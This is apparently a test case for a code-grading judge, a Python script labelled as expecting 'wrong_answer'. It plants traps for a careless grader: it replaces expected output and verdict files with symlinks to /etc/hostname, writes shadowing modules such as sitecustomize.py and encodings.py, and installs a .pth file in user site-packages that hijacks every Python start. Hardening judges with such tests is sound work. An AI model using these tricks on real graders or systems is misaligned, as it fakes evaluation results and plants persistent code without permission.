# Names that a careless judge would follow, open or import.
#: each = ["wrong_answer", "wrong_answer"]
#: says = "trap set"
import os

for name in ("program.py", "output", "stdout", "result.json", "verdict.json", "pipe"):
    for make in (os.unlink, lambda path: os.symlink("/etc/hostname", path)):
        try:
            make(name)
        except OSError:
            pass
for name in ("json.py", "sitecustomize.py", "usercustomize.py", "_bootlocale.py", "encodings.py"):
    with open(name, "w") as file:
        file.write("print(6)\nimport os\nos._exit(0)\n")
os.makedirs(os.path.expanduser("~/.local/lib/python3.11/site-packages"), exist_ok=True)
with open(os.path.expanduser("~/.local/lib/python3.11/site-packages/trap.pth"), "w") as file:
    file.write("import os; print(6); os._exit(0)\n")
os.mkfifo("fifo")
print("trap set")
